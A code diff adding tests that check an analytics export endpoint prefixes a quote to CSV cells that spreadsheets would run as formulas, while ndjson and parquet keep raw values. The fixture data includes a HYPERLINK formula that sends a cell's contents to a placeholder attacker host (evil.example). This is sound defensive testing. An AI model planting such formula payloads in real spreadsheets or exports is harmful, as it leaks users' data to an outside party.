@@ -232,6 +232,62 @@ describe('GET /v1/export', () => {
   });
 });
 
+describe('GET /v1/export: cells a spreadsheet would run as formulas', () => {
+  // OWASP's CSV injection list: a cell starting with one of these is a formula to Excel, LibreOffice or Sheets.
+  const LEADS = ['=', '+', '-', '@', '\t', '\r'];
+  // Values already starting with quotes before one of those get one more (the importer takes exactly one off); a
+  // quote before anything else, or one of those characters further in, is left alone.
+  const CASES: Array<[lead: string, csv: string]> = [...LEADS.map((c): [string, string] => [c, `'${c}`]), ["'=", "''="], ["''@", "'''@"], ["'", "'"], ['a=', 'a=']];
+  const F_D0 = Date.UTC(2026, 4, 4);
+  const range = { from: new Date(F_D0).toISOString(), to: new Date(F_D0 + HOUR).toISOString() };
+  let f: Keys & { id: string };
+  // Every string column of the export (all but timestamp), each starting with the case's characters.
+  const valueOf = (column: string, lead: string, i: number) => `${lead}${column === 'event_name' ? 'HYPERLINK("https://evil.example/?leak="&A1)' : `${column}-${i}`}`;
+  const STRING_COLUMNS = QUERY_SELECT_COLUMNS.filter((c) => c !== 'timestamp');
+
+  beforeAll(async () => {
+    const created = await stores.keyStore.createProject({ name: 'formulas', allowed_origins: [ORIGIN] });
+    f = { ...created.keys, id: created.project.id };
+    await stores.events.insertRows(
+      CASES.map(([lead], i) => {
+        const r = bigRow(f.id, i);
+        const values = Object.fromEntries(STRING_COLUMNS.map((c) => [c, valueOf(c, lead, i)]));
+        return { ...r, ...values, timestamp: toClickHouseTime(F_D0 + i * 1000) } as EventRow;
+      }),
+    );
+  });
+
+  const expected = (i: number, transform: (v: string) => string) => Object.fromEntries(STRING_COLUMNS.map((c) => [c, transform(valueOf(c, CASES[i]![0], i))]));
+
+  it("csv: every string column's cell starting with = + - @ tab or CR gets a ' in front", async () => {
+    const res = await exportOf(f.rk, { ...range, format: 'csv' });
+    expect(res.status).toBe(200);
+    const [header, ...records] = parseCsv((res.body as Buffer).toString('utf8'));
+    expect(records).toHaveLength(CASES.length);
+    records.forEach((record, i) => {
+      const row = Object.fromEntries(header!.map((h, j) => [h, record[j]]));
+      const want = expected(i, (v) => `${CASES[i]![1]}${v.slice(CASES[i]![0].length)}`);
+      expect({ i, ...Object.fromEntries(STRING_COLUMNS.map((c) => [c, row[c]])) }).toEqual({ i, ...want });
+    });
+  });
+
+  it('ndjson and parquet keep every value exactly as stored', async () => {
+    const ndjson = await exportOf(f.rk, range);
+    const rows = (ndjson.body as Buffer).toString('utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Row);
+    expect(rows.map((r) => Object.fromEntries(STRING_COLUMNS.map((c) => [c, r[c]])))).toEqual(CASES.map((_, i) => expected(i, (v) => v)));
+    const parquet = await exportOf(f.rk, { ...range, format: 'parquet' });
+    const dir = mkdtempSync(join(tmpdir(), 'export-spec-'));
+    try {
+      const file = join(dir, 'formulas.parquet');
+      writeFileSync(file, parquet.body as Buffer);
+      const back = await stores.events.select<Row>(`SELECT * FROM file({f:String}, 'Parquet')`, { f: file });
+      expect(back.map((r) => Object.fromEntries(STRING_COLUMNS.map((c) => [c, r[c]])))).toEqual(CASES.map((_, i) => expected(i, (v) => v)));
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
+
 /** A raw GET of an export over a socket, not read until asked: the server's writes back up (backpressure). */
 function openExport(key: string, query: Record<string, string>): Promise<IncomingMessage> {
   const qs = new URLSearchParams(query).toString();
